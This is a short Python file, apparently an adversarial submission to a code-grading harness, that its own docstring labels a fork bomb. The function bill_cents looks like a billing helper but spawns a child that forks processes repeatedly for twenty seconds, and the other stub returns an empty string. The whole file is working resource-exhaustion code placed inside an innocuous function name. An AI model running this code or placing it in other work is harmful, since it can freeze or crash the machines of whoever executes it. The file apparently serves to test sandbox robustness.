"""A fork bomb."""
# loses: check_bill_cents check_price_tag
# %% + first
import os, time
def bomb(until):
    while time.monotonic() < until:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
# %% bill_cents
def bill_cents(plan, dishes):
    if os.fork() == 0:
        bomb(time.monotonic() + 20)
        os._exit(0)
    time.sleep(1)
    return 0
# %% price_tag
def price_tag(cents):
    return ""
